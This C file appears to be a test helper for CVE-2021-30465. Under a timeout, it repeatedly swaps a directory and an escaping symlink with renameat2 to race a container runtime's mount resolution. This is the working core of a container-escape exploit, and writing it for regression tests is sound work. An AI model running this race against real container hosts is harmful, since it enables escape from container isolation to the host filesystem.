/* atk_swap - hostile process for the CVE-2021-30465 test: swaps two names (a directory and a
 * symlink pointing out of the container) with renameat2(RENAME_EXCHANGE) in a tight loop, so
 * that a runtime resolving a mount destination in that directory may meet the symlink.
 *
 *   atk_swap A B SECONDS [STOPFILE]
 *
 * Stops after SECONDS or as soon as STOPFILE exists; prints "swaps=N" (N > 0 shows that the race
 * really ran). Runs inside test containers only, so it may exit on error. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc < 4) {
        fprintf(stderr, "usage: atk_swap A B SECONDS [STOPFILE]\n");
        return 2;
    }
    double end = now() + atof(argv[3]);
    const char *stop = argc > 4 ? argv[4] : NULL;
    unsigned long swaps = 0;
    for (;;) {
        /* Checking the clock and the stop file every 1024 swaps keeps the loop tight. */
        if ((swaps & 1023) == 0 && (now() >= end || (stop != NULL && access(stop, F_OK) == 0)))
            break;
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
            fprintf(stderr, "atk_swap: renameat2: %s\n", strerror(errno));
            return 1;
        }
        swaps++;
    }
    printf("swaps=%lu\n", swaps);
    return 0;
}
